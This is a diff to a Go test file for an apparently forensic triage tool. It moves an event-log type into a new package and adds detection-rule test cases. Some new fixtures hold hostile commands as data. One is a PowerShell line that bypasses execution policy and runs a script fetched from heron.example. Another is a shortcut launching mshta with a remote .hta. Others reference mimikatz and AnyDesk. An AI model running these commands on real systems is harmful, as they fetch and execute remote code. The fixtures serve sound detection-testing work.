@@ -12,6 +12,7 @@ import (
 	"github.com/artifactdump/artifactdump/artifacts/activity"
 	"github.com/artifactdump/artifactdump/artifacts/catalogue"
 	"github.com/artifactdump/artifactdump/artifacts/communication"
+	"github.com/artifactdump/artifactdump/artifacts/events"
 	"github.com/artifactdump/artifactdump/artifacts/evidence"
 	"github.com/artifactdump/artifactdump/artifacts/execution"
 	"github.com/artifactdump/artifactdump/artifacts/findings"
@@ -138,15 +139,15 @@ func deleted(r artifacts.Record) artifacts.Record {
 // log is an event log that begins with a record at a time; one of 320 chunks
 // is full.
 func log(name string, first uint64, oldest time.Time, chunks int) artifacts.Record {
-	e := system.EvtxFile{Log: name, First: first, Last: first + 999, Next: first + 1000, Records: 1000, Oldest: oldest, Newest: day.AddDate(0, 0, 2), Chunks: chunks, Unused: 2, Size: int64(4096 + (chunks+2)*65536)}
+	e := events.EvtxFile{Log: name, First: first, Last: first + 999, Next: first + 1000, Records: 1000, Oldest: oldest, Newest: day.AddDate(0, 0, 2), Chunks: chunks, Unused: 2, Size: int64(4096 + (chunks+2)*65536)}
 	if chunks == 320 {
 		e.Unused, e.OldestChunk = 0, 7
 	}
 	return rec("evtxfiles", e)
 }
 
-func with(r artifacts.Record, f func(*system.EvtxFile)) artifacts.Record {
-	e := r.Data.(system.EvtxFile)
+func with(r artifacts.Record, f func(*events.EvtxFile)) artifacts.Record {
+	e := r.Data.(events.EvtxFile)
 	f(&e)
 	r.Data = e
 	return r
@@ -249,11 +250,12 @@ var cases = []struct {
 	{"D-06", findings.High, append(logs(), log("Security", 9000, at(0)[0], 60), log("Setup", 12, at(1)[0], 60), log("Windows PowerShell", 200, at(1)[0], 60)), append(logs(), log("Security", 9000, day.AddDate(0, -1, 0), 320))}, // several together; one that was full
 	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), pf(`\Windows\System32\wevtutil.exe`, at(0)))},
 	{"D-06", findings.High, logs(), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))}, // Security is missing
-	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *system.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *system.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
-	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *system.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *system.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.HiddenCount = 1 })), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
 	{"D-06", findings.Low, append(logs(), rec("eventlogging", system.Setting{Setting: "File", Subject: "Security", Value: `D:\Logs\Security.evtx`})), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
-	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *system.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
-		append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *system.EvtxFile) { e.Unusual, e.Dirty = []string{"x"}, true }))},
+	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
+		append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.Unusual, e.Dirty = []string{"x"}, true }))},
 	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 5000, at(0)[0], 60), rec("osinfo", system.OSInfo{Installed: day.Add(time.Hour)}))}, // an upgrade began it anew
 	{"D-07", findings.Medium, records{rec("recyclebin", execution.Recycled{Path: `C:\Windows\System32\a.exe`, Deleted: day})}, records{rec("recyclebin", execution.Recycled{Path: `C:\Users\u\Documents\letter.docx`, Deleted: day})}},
 	{"D-08", 0, records{rec("prefetch", execution.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{1}\WINDOWS\A.EXE`, ClockSetBack: true})}, records{pf(`\Windows\System32\a.exe`, at(0))}},
@@ -269,6 +271,15 @@ var cases = []struct {
 	{"F-09", findings.High, records{setting("remoteaccess", `RDP-Tcp\PortNumber`, "4444", true)}, records{setting("remoteaccess", `Terminal Server\fDenyTSConnections`, "1", false)}},
 	{"F-10", findings.High, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080"}))}},
 	{"F-11", findings.High, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(2))}, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(200))}},
+	{"S-01", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`, NotCleaned: true})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`}), rec("defenderdetections", system.DefenderDetection{Threat: "Virus:DOS/EICAR_Test_File", NotCleaned: true})}},
+	{"S-02", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Public\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Publicity\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}},
+	{"S-03", findings.High, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "mimikatz.exe"})}, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "product.exe"})}},
+	{"S-04", findings.Low, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "session", Time: day})}, records{rec("hosts", communication.Host{Default: true})}},
+	{"S-04", findings.High, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "installed", Path: `C:\Users\Public\AnyDesk.exe`})}, records{rec("hosts", communication.Host{Default: true})}},
+	{"S-05", findings.High, records{of("u", rec("pshistory", execution.PSCommand{Command: `Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://heron.example/a.ps1'))`}))}, records{of("u", rec("pshistory", execution.PSCommand{Command: `Invoke-WebRequest https://heron.example/a.zip -OutFile a.zip`}))}},
+	{"S-06", 0, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\mshta.exe`, Arguments: "http://192.0.2.1/a.hta"}}))}, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\cmd.exe`, Arguments: "/k"}}))}},
+	{"S-07", findings.Medium, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "immediate task", Name: "x"})}, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "drive", Name: "R:"})}},
+	{"S-08", findings.Medium, records{rec("openssh", communication.OpenSSH{Kind: "authorised key", Fingerprint: "SHA256:a", Admins: true})}, records{rec("openssh", communication.OpenSSH{Kind: "known host", Fingerprint: "SHA256:a"})}},
 	{"A-01", findings.Critical, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
 	{"A-02", findings.High, records{user(1005, "help$", nil)}, records{user(1001, "mira", nil)}},
 	{"A-03", findings.Critical, records{user(1005, "x", func(a *system.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
@@ -362,7 +373,7 @@ func TestEveryRuleHasACase(t *testing.T) {
 			benign records
 		}) bool {
 			return c.rule == r.ID
-		}) {
+		}) && !hasEventCase(r.ID) {
 			t.Errorf("%s has no case", r.ID)
 		}
 	}
@@ -393,4 +404,13 @@ func TestSeededStaysOut(t *testing.T) {
 			t.Errorf("%s speaks of %s", f.RuleID, f.Subject)
 		}
 	}
+}
+
+func hasEventCase(id string) bool {
+	for _, c := range eventCases {
+		if c.rule == id {
+			return true
+		}
+	}
+	return false
 }
